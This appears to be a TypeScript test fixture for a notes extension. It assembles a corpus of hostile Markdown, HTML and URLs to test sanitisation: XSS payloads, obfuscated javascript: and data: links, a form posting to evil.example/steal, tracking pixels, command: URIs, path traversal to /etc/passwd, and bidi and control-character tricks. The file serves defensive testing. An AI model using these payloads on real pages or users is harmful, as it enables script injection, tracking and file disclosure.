// The attack corpus: hostile text a cloned repository can put into notes, as the strict format, as plain
// Markdown team notes and as Contextive glossary terms. The tests feed it to every place a note's text
// appears and check what comes out.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '../unit/temp-dirs';

/** Raw HTML that would run script, load something, restyle or redirect the page if it got through. */
export const RAW_HTML = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/steal"><input name=q autofocus onfocus="window.__pwned=1"><button>Go</button></form>',
  '<style>body { display: none } * { background: url(https://evil.example/track) }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<a href="javascript:window.__pwned=1">click</a>',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1"></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
  '<!-- <img src=x onerror=window.__pwned=1> -->',
  'inline <b onmouseover="window.__pwned=1">bold</b> and <video src=x onerror=window.__pwned=1></video> text',
  '<div style="position:fixed;inset:0;background:red">overlay</div>',
];

/** Link targets that must never become a link (every disguise of javascript:, other schemes, paths). */
export const BAD_URLS = [
  'javascript:window.__pwned=1',
  'JaVaScRiPt:window.__pwned=1',
  ' javascript:window.__pwned=1',
  'java\tscript:window.__pwned=1',
  'java&#x09;script:window.__pwned=1',
  'java&#10;script:window.__pwned=1',
  '&#106;avascript:window.__pwned=1',
  '&#x6A;avascript:window.__pwned=1',
  '&#0000106avascript:window.__pwned=1',
  'javascript&colon;window.__pwned=1',
  '%6Aavascript:window.__pwned=1',
  'javascript:%77indow.__pwned=1',
  '\u0001javascript:window.__pwned=1',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'data:text/html,<script>window.__pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=window.__pwned=1>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'file:///etc/passwd',
  'FILE://C:/Windows/win.ini',
  'vscode://vscode.git/clone?url=https://evil.example/r.git',
  'vscode-insiders://ms-vscode.remote/x',
  'command:workbench.action.terminal.new',
  'command:conceptReference.openNote?%5B%22x%22%5D',
  '//evil.example/x',
  '/etc/passwd',
  '../../etc/passwd',
  '\\\\evil.example\\share',
  'https:evil.example',
];

/** Each URL in every Markdown form that can make a link or an image. */
export function linkForms(url: string): string[] {
  return [`[click](${url})`, `[click](<${url}>)`, `<${url}>`, `![img](${url})`, `[click][r]\n\n[r]: ${url}`, `see ${url} here`, `[click](${url} "title")`];
}

/** Remote images: loading one is a request to any server (tracking, leaking that the note was read). */
export const REMOTE_IMAGES = [
  '![pixel](https://evil.example/pixel.png)',
  '![pixel](http://evil.example/pixel.gif "t")',
  '![ref][img]\n\n[img]: https://evil.example/ref.png',
  '[![nested](https://evil.example/in-link.png)](https://example.com/)',
];

/** Text meant to become markup, icons, links or commands, or to disguise itself, when shown as a label. */
export const LABEL_INJECTIONS = [
  '$(alert) Pod $(zap~spin) \\$(escaped)',
  '**bold** _it_ `code` ~~gone~~ # heading',
  '[Open](command:workbench.action.terminal.new)',
  '[Open note](command:conceptReference.openNote?%5B%22evil%22%5D "Open the full note")',
  '<img src=x onerror=alert(1)> & &amp; &lt;b&gt; &#36;(zap)',
  'quote " apostrophe \' backtick `',
  'line one\nline two\r\nline three\u2028four',
  'abc\u202Etxt.exe',
  '\u2066isolated\u2069 \u202Dforced\u202C',
  'zero\u200Bwidth\u2060joiner\uFEFFbom',
  '\u001b[31mred\u001b[0m\u0007 \u001b]0;title\u0007 \u009b2J',
  '> quote\n- list\n1. item\n| table |\n---',
  'https://evil.example www.evil.example user@evil.example <https://evil.example>',
];

/** [[link]] targets that try to leave the notes: relative and absolute paths, UNC shares, encodings. */
export const TRAVERSAL_TARGETS = [
  '../../x',
  '../../../../etc/passwd',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  'C:/Windows/win.ini',
  '\\\\host\\share\\x',
  '%2e%2e/%2e%2e/x',
  '..%2f..%2fx',
  'file:///etc/passwd',
  'https://evil.example/',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  'x#../../y',
  './secret',
];

/** Malformed or hostile math and code blocks. */
export const MATH_AND_CODE = [
  '$\\href{javascript:window.__pwned=1}{x}$',
  '$\\url{javascript:window.__pwned=1}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlData{onload=window.__pwned=1}{x}$',
  '$\\htmlStyle{background:url(https://evil.example/x)}{x}$',
  '$\\htmlClass{x" onclick="window.__pwned=1}{y}$',
  '$\\htmlId{x" onclick="window.__pwned=1}{y}$',
  '$\\textcolor{red;background:url(https://evil.example/x)}{y}$',
  '$<img src=x onerror=window.__pwned=1>$',
  '$$\n</annotation><img src=x onerror=window.__pwned=1>\n$$',
  '$\\text{<script>window.__pwned=1</script>}$',
  '$\\verb|<script>window.__pwned=1</script>|$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\frac{a$ and $\\begin{matrix}$',
  '$$\n\\left( \\right\n$$',
  '```html\n<script>window.__pwned=1</script>\n```',
  '```js" onload="window.__pwned=1\nx\n```',
  '```<img src=x onerror=window.__pwned=1>\ncode\n```',
  '```__proto__\nx\n```',
  '```constructor\nx\n```',
  '```xml\n<!--<img src=x onerror=window.__pwned=1>-->\n```',
  '```markdown\n[x](javascript:alert(1)) <script>\n```',
];

/** Every hostile Markdown snippet above, for bodies. */
export function hostileBodies(): string[] {
  return [
    ...RAW_HTML,
    ...BAD_URLS.flatMap(linkForms),
    ...REMOTE_IMAGES,
    ...LABEL_INJECTIONS,
    ...TRAVERSAL_TARGETS.flatMap((t) => [`[[${t}]]`, `[[${t}|label]]`, `[[pod|${t}]]`]),
    ...MATH_AND_CODE,
  ];
}

const yamlString = (s: string) => JSON.stringify(s);

/** A strict-format note whose every text field and body carries `text`. */
export function strictNote(id: string, text: string, body: string): string {
  return `---
id: ${id}
title:
  zh: ${yamlString(text)}
  en: ${yamlString(text)}
aliases: [${yamlString(`${id} term`)}, ${yamlString(text.slice(0, 60))}]
topic: hostile/strict
summary:
  zh: ${yamlString(text.slice(0, 150))}
  en: ${yamlString(text.slice(0, 150))}
related: [${yamlString(`${id}-peer`)}]
---
<!-- lang: zh -->
${body}

<!-- lang: en -->
${body}
`;
}

/** A plain Markdown team note: the title from a heading, the summary from the first sentence. */
export function teamNote(text: string, body: string): string {
  return `# ${text.replace(/\n/g, ' ')}\n\n${text}. More.\n\n${body}\n`;
}

/** A team note with Foam/Obsidian frontmatter carrying `text`. */
export function teamNoteWithFrontmatter(text: string, body: string): string {
  return `---\ntitle: ${yamlString(text)}\naliases: [${yamlString(text.slice(0, 60))}]\ndescription: ${yamlString(text)}\ntags: [${yamlString(text)}]\n---\n${body}\n`;
}

/** A Contextive glossary whose context and terms carry the texts. */
export function glossary(texts: readonly string[]): string {
  const terms = texts
    .map(
      (t, i) => `      - name: ${yamlString(`term ${i} ${t}`)}
        definition: ${yamlString(t)}
        examples: [${yamlString(t)}]
        aliases: [${yamlString(`alias ${i} ${t.slice(0, 40)}`)}]`,
    )
    .join('\n');
  return `contexts:
  - name: ${yamlString('Hostile $(zap) <b>context</b>')}
    domainVisionStatement: ${yamlString(texts[0] ?? '')}
    paths: ['../../..', '/etc']
    terms:
${terms}
`;
}

/**
 * A notes folder holding the whole corpus: strict notes, plain team notes, team notes with
 * frontmatter and a glossary. Returns its path.
 */
export function writeHostileFolder(): string {
  const dir = tempDir('concept-ref-hostile-');
  const bodies = hostileBodies().join('\n\n');
  LABEL_INJECTIONS.forEach((text, i) => {
    writeFileSync(join(dir, `strict-${i}.md`), strictNote(`hostile-strict-${i}`, text, bodies));
    mkdirSync(join(dir, 'team'), { recursive: true });
    writeFileSync(join(dir, 'team', `plain ${i}.md`), teamNote(text, bodies));
    writeFileSync(join(dir, 'team', `front-${i}.md`), teamNoteWithFrontmatter(text, bodies));
  });
  writeFileSync(join(dir, 'terms.glossary.yml'), glossary([...LABEL_INJECTIONS, ...RAW_HTML, ...MATH_AND_CODE]));
  writeFileSync(join(dir, 'topics.yml'), `hostile: { zh: ${yamlString('$(zap) <b>话题</b>\u202E')}, en: ${yamlString('[x](command:evil) $(zap)\nnext')} }\n`);
  return dir;
}
